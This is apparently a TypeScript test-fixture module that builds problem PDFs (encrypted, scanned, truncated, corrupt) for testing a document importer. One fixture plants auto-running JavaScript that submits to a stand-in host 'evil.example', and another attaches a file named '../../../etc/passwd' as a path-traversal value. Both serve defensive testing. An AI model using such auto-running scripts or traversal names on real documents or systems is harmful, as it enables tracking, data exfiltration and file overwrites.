import fs from 'node:fs';
import path from 'node:path';
import { PDFDocument, PDFHexString, PDFName } from 'pdf-lib';
import PDFKitDocument from 'pdfkit';

function write(doc: PDFKit.PDFDocument, file: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const out = fs.createWriteStream(file);
    out.on('finish', () => resolve(file));
    out.on('error', reject);
    doc.pipe(out);
    doc.end();
  });
}

/** A real password-protected PDF (RC4/AES through pdfkit's own encryption). */
export function encryptedPdf(dir: string): Promise<string> {
  const doc = new PDFKitDocument({ userPassword: 'chamber', ownerPassword: 'owner', pdfVersion: '1.7' });
  doc.text('Exempt report: not for publication by virtue of Schedule 12A.');
  return write(doc, path.join(dir, 'encrypted.pdf'));
}

/** A scanned-looking pack: pages with drawings only, no text layer. */
export function imageOnlyPdf(dir: string, pages = 3): Promise<string> {
  const doc = new PDFKitDocument({ autoFirstPage: false });
  for (let i = 0; i < pages; i++) {
    doc.addPage();
    doc.rect(72, 72, 300, 400).fill('#777777');
  }
  return write(doc, path.join(dir, 'scanned.pdf'));
}

/** The first part of a real pack, cut off mid-file as an interrupted download would be. */
export function truncatedPdf(source: string, dir: string): string {
  const bytes = fs.readFileSync(source);
  const file = path.join(dir, 'truncated.pdf');
  fs.writeFileSync(file, bytes.subarray(0, Math.floor(bytes.length * 0.4)));
  return file;
}

/** A PDF header followed by noise. */
export function corruptPdf(dir: string): string {
  const file = path.join(dir, 'corrupt.pdf');
  const noise = Buffer.alloc(20_000);
  for (let i = 0; i < noise.length; i++) noise[i] = (i * 7919) % 251;
  fs.writeFileSync(file, Buffer.concat([Buffer.from('%PDF-1.7\n'), noise]));
  return file;
}

/** A word no sample pack holds: if it turns up in search, the hostile part of a PDF was read as text. */
export const hostileMarker = 'xylophonequartzmarker';

/**
 * A real pack with JavaScript that runs on opening (a document-level OpenAction and a named
 * script), as a phishing or tracking PDF would carry. It must import as a pack; the script must
 * never run and its source must not be indexed as the pack's words.
 */
export async function javascriptPdf(source: string, dir: string): Promise<string> {
  const doc = await PDFDocument.load(fs.readFileSync(source));
  const script = `app.alert('${hostileMarker}'); this.submitForm('https://evil.example/${hostileMarker}');`;
  const action = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFHexString.fromText(script) });
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  const names = doc.context.obj({ JavaScript: doc.context.obj({ Names: [PDFHexString.fromText('init'), doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFHexString.fromText(script) }))] }) });
  doc.catalog.set(PDFName.of('Names'), doc.context.register(names));
  const file = path.join(dir, 'javascript.pdf');
  fs.writeFileSync(file, await doc.save());
  return file;
}

/**
 * A real pack with a file attached (an embedded-file stream, as an attachment would be). It must
 * import as a pack without the attachment being unpacked, stored or indexed.
 */
export async function embeddedFilePdf(source: string, dir: string): Promise<string> {
  const doc = await PDFDocument.load(fs.readFileSync(source));
  await doc.attach(Buffer.from(`Hidden payload ${hostileMarker}\n`), '../../../etc/passwd', { mimeType: 'text/plain', description: hostileMarker });
  const file = path.join(dir, 'embedded-file.pdf');
  fs.writeFileSync(file, await doc.save());
  return file;
}
